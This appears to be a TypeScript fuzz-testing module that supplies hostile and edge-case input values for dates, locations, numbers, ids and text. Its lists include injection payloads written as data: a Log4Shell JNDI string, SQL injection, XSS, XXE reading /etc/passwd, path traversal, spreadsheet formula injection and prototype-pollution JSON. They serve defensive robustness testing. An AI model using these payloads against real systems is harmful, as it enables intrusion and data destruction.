import type { Format } from "./formats.ts";
import type { Random } from "./random.ts";

/** Hostile values: one for each way in which a value has brought down a system. */

const texts: readonly string[] = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the hostile value
  "${jndi:ldap://x/y}",
  ...["", " ", "\0", "a\0b", "\r\nX-Injected: 1", "\u2028\u2029\u0085", "\ud800", "a\udfffb", "\ufeff", "\uffff"],
  ...["👩‍👩‍👧‍👦𝕏𠜎", `a${"\u0301".repeat(256)}`, "\u202egnp.exe\u202d", "İıſKﬀß", "／..／etc／passwd", ".."],
  ...["../../../../etc/passwd", "..\\..\\windows", "%2e%2e%2f", "%00", "%", "%zz", "%c0%af", "%252e%252e"],
  ...["' or '1'='1", "'; drop table users; --", '"; delete from "checkins" where 1=1; --', "$1", "?", ":name", "@p0"],
  ...["%_%", "\\", "_", "*", "[[:alpha:]]", "(a+)+$", '{"$ne":null}', "{{0.result.id}}", "\\{{key.result}}"],
  ...["<script>alert(1)</script>", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "=cmd|'/c calc'!A1"],
  ...["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "null", "undefined", "NaN"],
  ...["Infinity", "-Infinity", "true", "me", "ME", "current", "app", "App", "1e400", "-0", "0x10", "1_000", "９"],
  ...["9007199254740993", "1".repeat(400), "/Date(0)/", "/Date(99999999999999999999)/", "@ResetCode", "a;b=c"],
  ...["a&b=c", "a#b", "a?b", "a/b", "//", "x".repeat(257), "x".repeat(4_001), "𝕏".repeat(256), "𝕏".repeat(257)],
];

const dates: readonly string[] = [
  ...["2015-02-30", "0000-01-01", "0001-01-01", "9999-12-31T23:59:59.999Z", "10000-01-01", "1969-12-31T23:59:60Z"],
  ...["/Date(-62135596800001)/", "/Date(253402300800000)/", "/Date(-1)/", "/Date(1.5)/", "2015-01-01T24:00"],
  ...["2015-01-01T00:00+99:99", "Jul 9, 1981 7:07:21 AM", "02/30/2015 00:00:00"],
];

const ranges: readonly string[] = [
  ...["-", "--", "(null)-(null)", "2016-01-01-2015-01-01", "2015-01-01T00:00-0500", "-5--3", "2015-01-01"],
  ...["2015-01-01-2015-01-02-2015-01-03", "/Date(0)/-/Date(0)/"],
];

const places: readonly string[] = [
  ...["90,180", "-90,-180", "90.0000001,0", "0,180.0000001", "0,-180", "-0,-0", "1e2,1e2", "1e-400,1", "NaN,NaN"],
  ...["1;2", "1,2,3,4", ",", "47,6,-122,3", "١,٢"],
];

const areas: readonly string[] = [
  ...["0,0,0", "0,0,-1", "0,0,30000000", "0,0,1e308", "90,0,1000", "-90,180,20015115", "0,180,5000"],
  ...["10,170-20,-170", "20,0-10,0", "-90,-180-90,180", "0,0-0,0", "90,180-90,180"],
];

const numbers: readonly unknown[] = [
  ...[0, -1, -0, 1.5, 1e21, 1e308, -1e308, 5e-324, 2 ** 31, 2 ** 53, 2 ** 53 + 2, -(2 ** 63), "1e400", "0x1F", " 7 "],
  ...["+7", "07", "7,5"],
];

const others: readonly unknown[] = [
  ...[null, true, false, [], {}, [null], ["a", "b"], [[[[[]]]]], { $gt: "" }, { lat: 1, lng: 2 }],
  ...[{ lat: { lat: 1 }, lng: [2] }, JSON.parse('{"__proto__":{"isAdmin":true}}')],
  ...[JSON.parse('{"constructor":{"prototype":{"isAdmin":true}}}'), { toString: "x", length: 1e9 }],
  "x".repeat(70_000),
];

/** A value at the edge of this format's range, or far beyond it. */
export function hostileValue(format: Format, random: Random): unknown {
  if (random.chance(0.25)) return random.pick(others);
  if (random.chance(0.35)) return random.pick(texts);
  switch (format.kind) {
    case "date":
      return random.pick(dates);
    case "dateRange":
      return random.pick([...ranges, ...dates]);
    case "location":
      return random.pick(places);
    case "locationRange":
      return random.pick([...areas, ...places]);
    case "number": {
      const { minimum, maximum } = format;
      const edges = [minimum, maximum]
        .filter((each) => each !== undefined)
        .flatMap((each) => [each - 1, each, each + 1]);
      return random.pick([...edges, ...numbers]);
    }
    case "choice": {
      const word = random.pick(format.words) ?? "";
      return random.pick([word.toUpperCase(), ` ${word} `, `${word}s`, `-${word}`, "--created", 0, 2, 99]);
    }
    case "text": {
      const { minLength, maxLength = 4_000 } = format;
      const length = random.pick([minLength, Math.max(0, minLength - 1), maxLength, maxLength + 1]);
      return random.pick(["x", "𝕏", "\u0301", "é"]).repeat(length);
    }
    case "id":
      return random.pick([
        ...format.prefixes.flatMap((prefix) => [
          `${prefix}_${"0".repeat(26)}`,
          `${prefix}_${random.word(26)}`,
          `${prefix}_${random.word(25)}`,
          `${prefix}_${random.word(26)}\n`,
          `${prefix.toUpperCase()}_${random.word(26)}`,
        ]),
        `xxx_${random.word(26)}`,
        `chk_${random.word(26)}`,
        ...format.words.map((word) => word.toUpperCase()),
      ]);
    default:
      return random.pick(texts);
  }
}

/** Any text from the list, regardless of the format. */
export function hostileText(random: Random): string {
  return random.pick(texts) ?? "";
}
